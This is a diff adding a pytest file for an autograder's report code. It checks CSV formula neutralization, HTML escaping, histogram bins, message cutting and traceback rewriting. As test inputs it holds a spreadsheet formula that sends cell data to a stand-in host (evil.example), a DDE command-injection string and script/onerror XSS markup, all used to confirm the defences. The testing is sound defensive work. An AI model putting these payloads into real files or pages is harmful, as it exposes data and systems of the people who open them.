@@ -1,0 +1,215 @@
+"""The reports' pure parts, without grading: CSV cells, message cutting, tracebacks, HTML escaping.
+
+End-to-end cases (a hostile exception name through the whole grader) are in test_adversarial.py;
+the sample class's summary.html in a real browser is in test_browser.py.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import itertools
+import re
+
+import pytest
+
+from autograder import messages, report
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",  # a spreadsheet may trim leading spaces
+    "\uff1d1+1",  # full-width equals sign
+]
+MARKUP = '<script>alert(1)</script><img src=x onerror="alert(2)">&amp;'
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_in_text_is_neutralized(text):
+    assert report.csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["AssertionError: -1 is wrong", "ok", "", "test_sgd_step_value", "a = b"])
+def test_honest_text_is_left_alone(value):
+    assert report.csv_cell(value) == value
+
+
+@pytest.mark.parametrize(("value", "written"), [(-0.5, "-0.5"), (-2.0, "-2"), (3, "3"), (0.0, "0"), (True, True)])
+def test_numbers_stay_numbers(value, written):
+    assert report.csv_cell(value) == written
+
+
+def test_nul_characters_do_not_reach_the_file():
+    assert report.csv_cell("a\x00b") == "a\ufffdb"
+
+
+def _row(student="=cmd|' /C calc'!A0", message=FORMULAS[0], reason="@reason", status="tampered", score=-0.5):
+    test = {"test": "test_x", "hidden": False, "points": score, "max_points": 2.0, "passed": score >= 2}
+    test.update(message=message, traceback=f"Traceback (most recent call last):\n  {MARKUP}")
+    return {
+        "student_id": student,
+        "chapter": "02_momentum",
+        "score": score,
+        "max_score": 2.0,
+        "status": status,
+        "reason": reason,
+        "tests": [test],
+    }
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_no_cell_of_either_csv_starts_a_formula(tmp_path):
+    rows = [_row(), _row(student="+ben", message="-1", reason="\t=1")]
+    report.write_all(rows, tmp_path)
+    for name in ("grades.csv", "tests.csv"):
+        for cell in _cells((tmp_path / name).read_text()):
+            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
+            assert number or not cell.lstrip().startswith(report.FORMULA_START), (name, cell)
+            assert not cell.startswith(report.CONTROL_START), (name, cell)
+    grades = list(csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text())))
+    assert grades[0]["score"] == "-0.5", "a score is a number, not text"
+    assert {g["student_id"] for g in grades} == {"'+ben", "'=cmd|' /C calc'!A0"}
+
+
+def test_tests_csv_has_what_a_spreadsheet_needs(tmp_path):
+    report.write_all([_row(student="ada", status="ok", reason="")], tmp_path)
+    (row,) = csv.DictReader(io.StringIO((tmp_path / "tests.csv").read_text()))
+    assert {k: row[k] for k in ("student_id", "test", "hidden", "points", "max_points", "passed", "status")} == {
+        "student_id": "ada",
+        "test": "test_x",
+        "hidden": "False",
+        "points": "-0.5",
+        "max_points": "2",
+        "passed": "False",
+        "status": "ok",
+    }
+
+
+# ---------------------------------------------------------------- HTML
+
+
+def test_student_text_is_escaped_on_the_feedback_page():
+    row = _row(student=MARKUP, message=MARKUP, reason=MARKUP)
+    page = report.feedback_html(row)
+    assert "<script" not in page and "<img" not in page
+    assert page.count("&lt;script&gt;") >= 4  # title and heading (student), status reason, message, traceback
+
+
+def test_student_text_is_escaped_in_the_summary():
+    rows = [_row(student=MARKUP, message=MARKUP, reason=MARKUP), _row(student="ok-one", status="ok", reason="")]
+    rows[1]["tests"][0]["message"] = MARKUP
+    page = report.summary_html(rows)
+    assert "<script" not in page and "<img" not in page
+    assert page.count("&lt;script&gt;") >= 3  # a failed test's message, a status's student and reason
+
+
+def test_the_summary_shows_each_chapter_with_a_histogram_and_the_statuses():
+    rows = [
+        {**_row(student=s, status="ok", reason="", score=p), "chapter": c}
+        for c in ("01_a", "02_b")
+        for s, p in (("ada", 2.0), ("ben", 0.0), ("cy", 0.0))
+    ]
+    rows.append({**_row(student="eli", status="missing", reason="no notebook", score=0.0), "chapter": "02_b"})
+    page = report.summary_html(rows)
+    assert page.count("<svg") == 2 and page.count("<section") == 2
+    assert "<script" not in page and not re.search(r"(src|href)=\S*//", page), "self-contained: nothing loaded"
+    assert 'aria-label="students per score range, 0: 2, 2: 1"' in page
+    assert 'aria-label="students per score range, 0: 3, 2: 1"' in page
+    assert "2 of 3" in page  # test_x failed by the two students with 0 of the three graded
+    assert "missing" in page and "no notebook" in page
+
+
+@pytest.mark.parametrize(("max_score", "bins"), [(2, [(0, 0), (1, 1), (2, 2)]), (16, None), (43, None), (0.5, None)])
+def test_histogram_ranges_cover_every_score_once(max_score, bins):
+    got = report._bins(max_score)
+    if bins:
+        assert got == bins
+    assert len(got) <= report.BINS and got[0][0] == 0 and got[-1][1] == int(max_score)
+    assert all(hi + 1 == lo for (_, hi), (lo, _) in itertools.pairwise(got))
+
+
+# ---------------------------------------------------------------- messages
+
+
+def test_a_short_message_is_left_whole():
+    assert messages.cut("AssertionError: wrong") == "AssertionError: wrong"
+
+
+def test_a_long_message_is_cut_at_a_line_and_says_so():
+    lines = [f" [{i}]: 3.310000000000004 (ACTUAL), 3.01 (DESIRED)" for i in range(30)]
+    text = "AssertionError: off\n" + "\n".join(lines)
+    got = messages.cut(text)
+    assert len(got) <= messages.LIMIT
+    body, note = got.rsplit("\n", 1)
+    assert note == f"[… cut: the message has {len(text):,} characters]"
+    assert text.startswith(body + "\n"), "cut at the end of a whole line"
+
+
+def test_a_long_line_is_cut_between_words_never_inside_a_number():
+    text = "values " + " ".join(f"{i}.123456789" for i in range(200))
+    got = messages.cut(text)
+    assert len(got) <= messages.LIMIT and "[… cut" in got
+    head = got.split(" [… cut")[0]
+    assert text.startswith(head + " "), "cut where a space was"
+    word = "x" * 300 + "1234567890" * 40 + ".5"
+    head = messages.cut(word).split(" [… cut")[0]
+    assert head == "x" * 300, "one long word is cut before the number it runs into"
+
+
+def test_the_traceback_names_the_test_and_leaves_the_message_out():
+    cells = [
+        {"kind": "instructor", "name": ""},
+        {"kind": "answer", "name": "sgd_step"},
+        {"kind": "extra", "name": ""},
+        {"kind": "test", "name": "test_sgd_step_value"},
+    ]
+    raw = (
+        "Traceback (most recent call last):\n"
+        '  File "<test cell 3>", line 4, in <module>\n'
+        "    got = sgd_step(theta, g, 0.1)\n"
+        '  File "<answer cell 1>", line 2, in sgd_step\n'
+        "    return helper(theta)\n"
+        '  File "<extra cell 2>", line 1, in helper\n'
+        "    secret = 1\n"
+        "AssertionError: the whole message\nsecond line of it"
+    )
+    got = messages.traceback(raw, cells, secret={"secret = 1"})
+    assert got.splitlines() == [
+        "Traceback (most recent call last):",
+        "  test test_sgd_step_value, line 4",
+        "    got = sgd_step(theta, g, 0.1)",
+        "  your answer cell for sgd_step, line 2, in sgd_step",
+        "    return helper(theta)",
+        "  a cell you added, line 1, in helper",
+        "    …",
+    ]
+    assert "cell 3" not in got and "whole message" not in got
+
+
+def test_a_function_still_stubbed_is_named_as_not_implemented():
+    used = messages.functions_used(
+        "# uses sgd_step in a comment only\nW = sparse_init(4, 2, 1, rng)", ["sgd_step", "sparse_init"]
+    )
+    assert used == ["sparse_init"]
+    said = "AssertionError: sparse_init(40, 10, k=0, rng) raised NotImplementedError; raise ValueError"
+    assert messages.not_implemented(used, ["sparse_init"], {}, said) == ["sparse_init"]
+    edited = {"sparse_init": "def sparse_init(a, b, k, rng):\n    raise NotImplementedError"}
+    assert messages.not_implemented(used, [], edited, said) == ["sparse_init"]
+    assert messages.not_implemented(used, [], {"sparse_init": "def sparse_init(): return 1"}, said) == []
+    assert messages.not_implemented(used, ["sparse_init"], {}, "AssertionError: wrong values") == []
+    assert messages.not_implemented_message(["sparse_init"]).startswith("sparse_init is not implemented yet")
+    assert messages.not_implemented_message(["a", "b", "c"]).startswith("a, b and c are not implemented yet")
+
+
+def test_an_answer_is_untouched_only_when_it_is_the_stub():
+    stubs = {"f": "def f(x):\n    raise NotImplementedError\n", "g": "def g():\n    pass"}
+    assert messages.untouched(stubs, {"f": "def f(x):   \n    raise NotImplementedError"}) == ["f", "g"]
+    assert messages.untouched(stubs, {"f": "def f(x):\n    return x", "g": "def g():\n    pass"}) == ["g"]
